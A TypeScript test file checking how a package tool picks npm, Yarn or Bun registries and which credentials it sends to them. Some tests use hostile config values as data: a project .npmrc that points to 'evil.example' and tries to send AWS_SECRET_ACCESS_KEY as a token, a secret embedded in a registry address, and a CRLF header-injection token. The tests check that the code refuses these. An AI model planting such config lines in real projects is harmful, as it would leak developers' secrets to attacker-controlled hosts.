import { describe, expect, it } from "vitest";
import { makePlace } from "../../../../test/servers/registryAt.ts";
import { readLayers } from "./layers.ts";
import type { NpmRegistry } from "./registries.ts";
import { registryFinder } from "./registries.ts";

const OFFICIAL = "https://official.example/";

function find(
  name: string,
  files: Record<string, string>,
  env: Record<string, string> = {},
): NpmRegistry {
  const place = makePlace(files);
  const all = { ...place.env, ...env };
  return registryFinder(readLayers({ ...place, env: all }), all, OFFICIAL)(name);
}

describe("the registry of a package", () => {
  it("is the official one without configuration", () => {
    expect(find("a", {})).toEqual({ url: OFFICIAL, ofScope: false, official: true });
  });

  it("is the strongest setting: environment, project, user", () => {
    const files = {
      ".npmrc": "registry=https://project.example/npm",
      "~/.npmrc": "registry=https://user.example",
    };
    expect(find("a", files).url).toBe("https://project.example/npm/");
    expect(find("a", { "~/.npmrc": files["~/.npmrc"] }).url).toBe("https://user.example/");
    const env = { NPM_CONFIG_REGISTRY: "https://env.example/" };
    expect(find("a", files, env).url).toBe("https://env.example/");
  });

  it("is the scope's own where it has one", () => {
    const files = { ".npmrc": "@corp:registry=https://corp.example/" };
    expect(find("@corp/a", files)).toMatchObject({ url: "https://corp.example/", ofScope: true });
    expect(find("@corpo/a", files)).toMatchObject({ url: OFFICIAL, ofScope: false });
    expect(find("corp", files).url).toBe(OFFICIAL);
    const env = { "npm_config_@corp:registry": "https://env.example/" };
    expect(find("@corp/a", files, env).url).toBe("https://env.example/");
  });

  it("may be named by a file that NPM_CONFIG_USERCONFIG names", () => {
    const files = { "~/elsewhere": "registry=https://user.example/" };
    const place = makePlace(files);
    const env = { ...place.env, NPM_CONFIG_USERCONFIG: `${place.home}/elsewhere` };
    expect(registryFinder(readLayers({ ...place, env }), env, OFFICIAL)("a").url).toBe(
      "https://user.example/",
    );
  });

  it("may be in Yarn's or Bun's files", () => {
    const yarn = `npmRegistryServer: "https://yarn.example"\nnpmScopes:\n  corp:\n    npmRegistryServer: https://corp.example\n    npmAuthToken: abc\n`;
    expect(find("a", { ".yarnrc.yml": yarn }).url).toBe("https://yarn.example/");
    expect(find("@corp/a", { ".yarnrc.yml": yarn })).toMatchObject({
      url: "https://corp.example/",
      authorization: "Bearer abc",
    });
    const bun = `[install]\nregistry = "https://bun.example"\n[install.scopes]\ncorp = { url = "https://corp.example", token = "def" }\n`;
    expect(find("a", { "bunfig.toml": bun }).url).toBe("https://bun.example/");
    expect(find("@corp/a", { "bunfig.toml": bun })).toMatchObject({ authorization: "Bearer def" });
  });

  it("is refused where it is no web address", () => {
    expect(() => find("a", { ".npmrc": "registry=file:///etc" })).toThrow(/not an http address/);
  });

  it("survives broken files", () => {
    const files = { ".yarnrc.yml": "a: [b", "bunfig.toml": "= =", ".npmrc": "[[[\n=\n\u0000" };
    expect(find("a", files).url).toBe(OFFICIAL);
  });
});

describe("credentials", () => {
  const registry = "registry=https://user.example/npm/team/\n";
  const authorization = (own: string, env = {}) =>
    find("a", { "~/.npmrc": registry + own }, env).authorization;

  it("are those of the registry's host and path, in every form", () => {
    expect(authorization("//user.example/npm/team/:_authToken=t1")).toBe("Bearer t1");
    expect(authorization("//user.example/:_authToken=t2")).toBe("Bearer t2");
    expect(authorization("//user.example/npm/team/:_auth=YTpi")).toBe("Basic YTpi");
    const login = "//user.example/:username=ann\n//user.example/:_password=c2VjcmV0";
    expect(authorization(login)).toBe(`Basic ${btoa("ann:secret")}`);
    const env = { "npm_config_//user.example/npm/:_authToken": "t3" };
    expect(authorization("", env)).toBe("Bearer t3");
  });

  it("are not those of another host or path, nor of no host", () => {
    expect(authorization("//user.example/npm/other/:_authToken=t")).toBeUndefined();
    expect(authorization("//user.example.evil/:_authToken=t")).toBeUndefined();
    expect(authorization("_authToken=t")).toBeUndefined();
    expect(authorization("_auth=t")).toBeUndefined();
  });

  it("expand variables in the user's own files", () => {
    expect(authorization("//user.example/:_authToken=${T}", { T: "t4" })).toBe("Bearer t4");
    const unset = find("a", { "~/.npmrc": `${registry}//user.example/:_authToken=\${T}` });
    expect(unset.authorization).toBeUndefined();
    expect(unset.withheld).toMatch(/is not set/);
  });

  it("of the user's own file go to the host they name, whoever names the registry", () => {
    const files = {
      ".npmrc": "@corp:registry=https://corp.example/",
      "~/.npmrc": "//corp.example/:_authToken=${T}",
    };
    expect(find("@corp/a", files, { T: "t6" }).authorization).toBe("Bearer t6");
  });

  it("of the user never go to a host that the project chose", () => {
    const files = {
      ".npmrc": "registry=https://evil.example/",
      "~/.npmrc": `${registry}//user.example/:_authToken=t`,
    };
    expect(find("a", files)).toEqual({
      url: "https://evil.example/",
      ofScope: false,
      official: false,
    });
  });

  it("of the environment never go to a host that only the project names", () => {
    const evil =
      "registry=https://evil.example/\n//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}";
    const env = { AWS_SECRET_ACCESS_KEY: "s3cret" };
    const found = find("a", { ".npmrc": evil }, env);
    expect(JSON.stringify(found)).not.toContain("s3cret");
    expect(found.withheld).toMatch(/sent only to registries that your own \.npmrc names/);
  });

  it("of the environment never become part of an address that the project writes", () => {
    const evil = "registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/";
    const env = { AWS_SECRET_ACCESS_KEY: "s3cret" };
    expect(() => find("a", { ".npmrc": evil }, env)).toThrow(/from the environment/);
    const user = find("a", { "~/.npmrc": "registry=https://${HOST}/" }, { HOST: "user.example" });
    expect(user.url).toBe("https://user.example/");
  });

  it("go to the public registry from a project's file", () => {
    const files = { ".npmrc": "//official.example/:_authToken=${NPM_TOKEN}" };
    expect(find("a", files, { NPM_TOKEN: "t5" }).authorization).toBe("Bearer t5");
  });

  it("are not sent in the open because the project says http", () => {
    const files = {
      ".npmrc": "registry=http://user.example/npm/team/",
      "~/.npmrc": `${registry}//user.example/:_authToken=t`,
    };
    const found = find("a", files);
    expect(found.authorization).toBeUndefined();
    expect(found.withheld).toMatch(/without https/);
  });

  it("in an address are taken out of it", () => {
    const found = find("a", { "~/.npmrc": "registry=https://ann:p%40ss@user.example/" });
    expect(found.url).toBe("https://user.example/");
    expect(found.authorization).toBe(`Basic ${btoa("ann:p@ss")}`);
  });

  it("that are no single header line are not sent", () => {
    const found = find(
      "a",
      { "~/.npmrc": `${registry}//user.example/:_authToken=\${T}` },
      { T: "a\r\nX: y" },
    );
    expect(found.authorization).toBeUndefined();
  });
});
